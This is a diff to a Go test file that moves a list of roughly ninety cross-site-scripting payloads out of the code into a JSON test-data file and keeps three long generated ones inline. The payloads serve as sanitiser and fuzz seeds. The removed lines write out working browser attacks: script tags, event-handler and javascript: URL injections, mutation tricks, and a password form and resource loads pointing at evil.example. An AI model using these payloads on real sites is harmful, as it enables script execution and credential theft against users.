@@ -2,6 +2,7 @@ package edition
 
 import (
 	"encoding/json"
+	"os"
 	"strings"
 	"testing"
 
@@ -10,102 +11,29 @@ import (
 	"stele/internal/doc"
 )
 
-// hostile are texts that want to act in a reader's browser. Each is tried as a
-// whole body in every format, as a title, a name, a link and a picture.
-var hostile = []string{
-	`<script>alert(1)</script>`,
-	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
-	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
-	`</script><script>alert(1)</script>`,
-	`</style><script>alert(1)</script>`,
-	`</title><script>alert(1)</script>`,
-	`<img src=x onerror=alert(1)>`,
-	`<img src="x` + "`" + `><script>alert(1)</script>"` + "`" + `>`,
-	`<img/src=x/onerror=alert(1)//`,
-	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
-	`<img srcset="//evil.example/a.png 2x" src=a.png>`,
-	`<img src="//evil.example/a.png">`,
-	`<img src="/\evil.example/a.png">`,
-	"<img src=\"/\t/evil.example/a.png\">",
-	"<img src=\"\n//evil.example/a.png\">",
-	`<img src="https://evil.example/a.png" alt="counter">`,
-	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
-	`<svg onload=alert(1)>`,
-	`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
-	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
-	`<svg><script href="data:text/javascript,alert(1)"/></svg>`,
-	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
-	`<math href="javascript:alert(1)">x</math>`,
-	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
-	`<template><script>alert(1)</script></template>`,
-	`<iframe src="javascript:alert(1)"></iframe>`,
-	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
-	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
-	`<embed src="//evil.example/x.swf">`,
-	`<a href="javascript:alert(1)">x</a>`,
-	`<a href="JaVaScRiPt:alert(1)">x</a>`,
-	"<a href=\"java\tscript:alert(1)\">x</a>",
-	"<a href=\"java\nscript:alert(1)\">x</a>",
-	"<a href=\"\x01javascript:alert(1)\">x</a>",
-	`<a href=" javascript:alert(1)">x</a>`,
-	`<a href="&#106;&#97;vascript&colon;alert(1)">x</a>`,
-	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
-	`<a href="vbscript:msgbox(1)">x</a>`,
-	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
-	`<a href="x" onclick="alert(1)" onmouseover=alert(1) style="position:fixed;inset:0">x</a>`,
-	`<a href="https://ok.example" target="_blank" ping="https://evil.example">x</a>`,
-	`[x](javascript:alert(1))`,
-	`[x](<java script:alert(1)>)`,
-	`[x](data:text/html,<script>alert(1)</script>)`,
-	`[x]: javascript:alert(1)` + "\n\n[x]",
-	`<javascript:alert(1)>`,
-	`![x](javascript:alert(1))`,
-	`![x](https://evil.example/pixel.png)`,
-	`![x](//evil.example/pixel.png)`,
-	`![" onerror="alert(1)](x.png "\" onload=\"alert(1)")`,
-	"```\"><script>alert(1)</script>\nx\n```",
-	"## x {onclick=alert(1) style=\"background:url(//evil.example)\"}",
-	`x[^1]` + "\n\n" + `[^1]: <script>alert(1)</script><img src=x onerror=alert(1)>`,
-	`x[^"><script>alert(1)</script>]` + "\n\n" + `[^"><script>alert(1)</script>]: y`,
-	`<div style="background:url(//evil.example/x)">x</div>`,
-	`<p style="behavior:url(x.htc);width:expression(alert(1))">x</p>`,
-	`<style>@import url(//evil.example/x.css);body{display:none}</style>`,
-	`<link rel=stylesheet href="//evil.example/x.css">`,
-	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
-	`<base href="https://evil.example/">`,
-	`<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>`,
-	`<input autofocus onfocus=alert(1)>`,
-	`<input type=image src="//evil.example/x.png">`,
-	`<video><source onerror=alert(1)></video>`,
-	`<audio src=x onerror=alert(1)>`,
-	`<details open ontoggle=alert(1)>x</details>`,
-	`<marquee onstart=alert(1)>x</marquee>`,
-	`<body onload=alert(1)>`,
-	`<table background="//evil.example/x.png"><td background="javascript:alert(1)">x`,
-	`<b><i><u><p><li><td>unclosed <a href="x`,
-	`</div></article></main></body></html><script>alert(1)</script>`,
-	`<!--><script>alert(1)</script>-->`,
-	`<!-- --!><img src=x onerror=alert(1)> -->`,
-	`<![CDATA[<script>alert(1)</script>]]>`,
-	`<?xml-stylesheet href="javascript:alert(1)"?>`,
-	`<textarea></textarea><img src=x onerror=alert(1)>`,
-	`<select><option></select><img src=x onerror=alert(1)>`,
-	`<xmp></xmp><img src=x onerror=alert(1)>`,
-	`<plaintext><img src=x onerror=alert(1)>`,
-	`<span class="stele-fallback" data-state="missing" lang="&quot;><script>alert(1)</script>" onclick=alert(1)>x</span>`,
-	`<span data-stele="0" id="ed-text">x</span><a id="ed-note-1" href="#ed-note-1">1</a>`,
-	`<p lang="en" dir="rtl" id="x y" id='"><script>'>x</p>`,
-	`"><script>alert(1)</script>`,
-	`' onmouseover='alert(1)`,
-	`{{.Style}}{{template "x"}}<%= 1 %>`,
-	"\u2028</script>\u2029<!--<script>",
-	strings.Repeat("<div>", 700) + "<script>alert(1)</script>",
-	strings.Repeat("<b><a href=javascript:alert(1)>", 60),
-	strings.Repeat("> ", 300) + "<img src=x onerror=alert(1)>",
+// hostile are texts that want to act in a reader's browser, those of
+// testdata/hostile.json and some that are long. Each is tried as a whole body in
+// every format, as a title, a name, a link and a picture; the browser tests open
+// the same ones.
+func hostile(t testing.TB) []string {
+	t.Helper()
+	data, err := os.ReadFile("testdata/hostile.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var texts []string
+	if err := json.Unmarshal(data, &texts); err != nil {
+		t.Fatal(err)
+	}
+	return append(texts,
+		strings.Repeat("<div>", 700)+"<script>alert(1)</script>",
+		strings.Repeat("<b><a href=javascript:alert(1)>", 60),
+		strings.Repeat("> ", 300)+"<img src=x onerror=alert(1)>",
+	)
 }
 
 func TestHostile(t *testing.T) {
-	for _, text := range hostile {
+	for _, text := range hostile(t) {
 		for _, a := range hostileArticles(text) {
 			e, err := New(a, Options{Site: text})
 			if err != nil {
@@ -125,7 +53,7 @@ func TestHostile(t *testing.T) {
 }
 
 func FuzzHostile(f *testing.F) {
-	for _, text := range hostile {
+	for _, text := range hostile(f) {
 		f.Add(text)
 	}
 	f.Fuzz(func(t *testing.T, text string) {
